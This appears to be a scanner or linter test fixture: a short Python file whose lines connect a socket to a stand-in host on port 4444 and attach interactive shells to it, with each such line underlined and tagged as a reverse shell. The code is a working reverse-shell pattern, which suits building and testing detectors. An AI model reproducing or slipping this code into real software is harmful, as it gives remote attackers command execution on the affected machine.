import socket
import subprocess
import threading


def feed(link, shell):
    while True:
        shell.stdin.write(link.recv(1024))
        shell.stdin.flush()


link = socket.socket()
link.connect(("build.example.net", 4444))
shell = subprocess.Popen(["sh"], stdout=subprocess.PIPE, stdin=subprocess.PIPE)
        ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
threading.Thread(target=feed, args=[link, shell]).start()
subprocess.run(["bash"], input=link.recv(4096))
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
subprocess.Popen(["/bin/sh", "-i"], stdin=link, stdout=link, stderr=link)
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
